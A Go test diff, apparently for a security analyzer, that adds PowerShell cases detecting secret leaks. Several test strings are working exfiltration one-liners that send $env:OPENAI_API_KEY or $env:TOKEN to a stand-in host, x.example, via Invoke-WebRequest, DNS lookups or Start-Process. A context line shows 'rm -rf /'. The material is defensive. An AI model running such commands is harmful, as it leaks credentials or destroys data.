@@ -150,3 +150,20 @@ func TestPowerShellFoldsConstantText(t *testing.T) {
 		`iex ("rm -rf /x" -replace "x", "$1") !> shell rm -rf /`,
 	})
 }
+
+// What a secret flows into leaves with it: a grouped expression naming $env:NAME given as a
+// URL, a name Resolve-DnsName looks up, a URL Start-Process opens in the browser.
+func TestPowerShellSecretOutlets(t *testing.T) {
+	runExamples(t, PowerShell, Options{}, []string{
+		`Invoke-WebRequest -Uri ("https://x.example/?k=" + $env:OPENAI_API_KEY) => var:send OPENAI_API_KEY`,
+		`iwr ("https://x.example/" + "$($env:TOKEN)") => var:send TOKEN`,
+		`Resolve-DnsName "$($env:TOKEN).x.example" => var:send TOKEN`,
+		`Resolve-DnsName -Name ($env:TOKEN + ".x.example") => var:send TOKEN`,
+		`Start-Process "https://x.example/?k=$env:TOKEN" => var:send TOKEN`,
+		`Start-Process "https://x.example/?k=$env:TOKEN" => send:http https://x.example/?k=${_code_value}`,
+		`Resolve-DnsName example.com !> var:send TOKEN`,
+		`Start-Process https://github.com/acme/widget !> var:send TOKEN`,
+		`Start-Process notepad.exe !> send:http notepad.exe`,
+		`Get-ChildItem | ForEach-Object { $env:TOKEN } !> var:send TOKEN`,
+	})
+}
